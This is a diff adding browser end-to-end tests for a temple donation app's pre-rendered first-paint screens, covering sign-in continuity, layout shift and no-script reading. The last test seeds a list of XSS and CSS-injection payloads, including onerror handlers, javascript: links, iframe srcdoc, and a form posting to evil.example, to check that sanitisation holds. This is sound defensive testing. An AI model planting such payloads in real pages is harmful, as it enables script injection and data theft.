@@ -1,0 +1,111 @@
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { FIRST_PAINT_FILE, REGISTRY_PATH, type RegistryDocument } from '@sannidhi/contracts';
+import { holdBack } from '../harness/hold-back.ts';
+import { expect, type Page, test } from '../harness/test.ts';
+
+const EMAIL = 'devotee@sannidhi.test';
+const PASSWORD = 'Namaste-108';
+const APP = '**/assets/main.*.js';
+const SCREENS = ['/login', '/register', '/contact', '/pooja-booking', '/donate?temple=sri-kamakshi-edison'];
+
+test.use({ waitsForUse: true });
+
+const isPainted = (page: Page) => page.evaluate(() => document.getElementById('paint') !== null);
+const shift = (page: Page) => page.evaluate(() => globalThis.layoutShift);
+
+declare global {
+  var layoutShift: number;
+}
+
+test.beforeEach(({ page }) =>
+  page.addInitScript(() => {
+    globalThis.layoutShift = 0;
+    new PerformanceObserver((list) => {
+      for (const entry of list.getEntries() as (PerformanceEntry & { value: number; hadRecentInput: boolean })[])
+        if (!entry.hadRecentInput) globalThis.layoutShift += entry.value;
+    }).observe({ type: 'layout-shift', buffered: true });
+  }),
+);
+
+test('a sign-in begun before the app is there goes on in it: text, focus and press are kept @any-screen', async ({ page }) => {
+  const release = await holdBack(page, APP);
+  await page.goto('/login');
+  await page.getByLabel('Email').fill(EMAIL);
+  await page.getByLabel('Password', { exact: true }).fill(PASSWORD);
+  await page.getByRole('button', { name: 'Sign in' }).click();
+  expect(await isPainted(page)).toBe(true);
+  expect(new URL(page.url()).search).toBe('');
+  await release();
+  await expect(page).toHaveURL('/donor/dashboard');
+});
+
+test('public screens are readable and usable without their app, and nothing moves when it takes over', async ({ page }) => {
+  for (const path of SCREENS) {
+    const apps: string[] = [];
+    await page.route(APP, (route) => {
+      if (route.request().resourceType() === 'script') apps.push(route.request().url());
+      return route.continue();
+    });
+    await page.goto(path, { waitUntil: 'networkidle' });
+    expect([path, apps]).toEqual([path, []]);
+    const heading = page.locator('#paint h1');
+    await expect(heading).toBeVisible();
+    const title = await heading.textContent();
+    await page.keyboard.press('Shift');
+    await expect(page.locator('#paint')).toHaveCount(0);
+    await expect(page.getByRole('heading', { level: 1 })).toHaveText(title ?? '');
+    // A font that arrives late may move a line by a fraction of a pixel.
+    expect(await shift(page), path).toBeLessThan(0.002);
+    await page.unrouteAll({ behavior: 'wait' });
+  }
+});
+
+test('a guest reads the temple’s name and its purposes before any script runs @small-screen', async ({ browser, platform }) => {
+  const page = await browser.newPage({ javaScriptEnabled: false });
+  await page.goto(`${platform.url}/donate?temple=sri-kamakshi-edison`);
+  await expect(page.getByRole('heading', { level: 1, name: 'Sri Kamakshi Temple' })).toBeVisible();
+  await expect(page.getByLabel(/Annadanam/)).toBeVisible();
+  await page.goto(`${platform.url}/donate?temple=no-such-temple`);
+  await expect(page.locator('#paint')).toHaveCount(0);
+  await page.close();
+});
+
+const STEAL = 'document.documentElement.setAttribute("data-stolen", "yes")';
+const HOSTILE = [
+  ['script', {}, STEAL],
+  ['img', { src: 'https://evil.example/x', onerror: STEAL }],
+  ['iframe', { srcdoc: `<script>parent.${STEAL}</script>` }],
+  ['style', {}, '@import "https://evil.example/x"; body { display: none }'],
+  ['div', { id: 'root', onmouseover: STEAL, style: 'background: url(https://evil.example/x)' }, '</div><script>', STEAL, '</script>'],
+  ['svg', { onload: STEAL }, ['use', { href: 'https://evil.example/x#a' }], ['script', {}, STEAL]],
+  ['form', { action: 'https://evil.example/x', method: 'post' }, ['input', { name: 'email' }], ['button', { formaction: '//evil.example' }, 'Go']],
+  ['a', { href: `javascript:${STEAL}` }, 'Out'],
+  ['b', { class: 'k-evil' }, 'Hostile'],
+];
+const HOSTILE_RULES = [
+  { selector: '.k-evil', declarations: ['background:url(https://evil.example/x)', 'color:red}body{display:none'] },
+  { selector: 'body', declarations: ['display:none'] },
+  { selector: '.k-evil, #root', declarations: ['display:none'] },
+];
+
+test('a release’s own markup and rules run nothing, reach nothing else and go nowhere @any-screen', async ({ page, platform }) => {
+  const { releases } = (await (await page.request.get(REGISTRY_PATH)).json()) as RegistryDocument;
+  const release = releases.find(({ name }) => name === 'mfe-auth')?.release ?? '';
+  const folder = join(platform.dataDir, 'remotes/mfe-auth', release);
+  mkdirSync(folder, { recursive: true });
+  const screens = { '/register': { en: HOSTILE } };
+  writeFileSync(join(folder, FIRST_PAINT_FILE), JSON.stringify({ rules: HOSTILE_RULES, screens }));
+  const elsewhere: string[] = [];
+  page.on('request', (request) => new URL(request.url()).host.includes('evil') && elsewhere.push(request.url()));
+  const app = await holdBack(page, APP);
+  await page.goto('/register');
+  await expect(page.getByText('Hostile')).toBeVisible();
+  await page.getByRole('button', { name: 'Go' }).click();
+  await page.getByText('Out').click();
+  expect(await page.locator('#paint').innerHTML()).not.toMatch(/<(script|img|iframe|style|use)|on\w+=|javascript:|evil\.example|style=/);
+  expect(await page.evaluate(() => document.documentElement.dataset.stolen)).toBeUndefined();
+  expect(elsewhere).toEqual([]);
+  await app();
+  await expect(page.getByRole('heading', { level: 1, name: /account/i })).toBeVisible();
+});
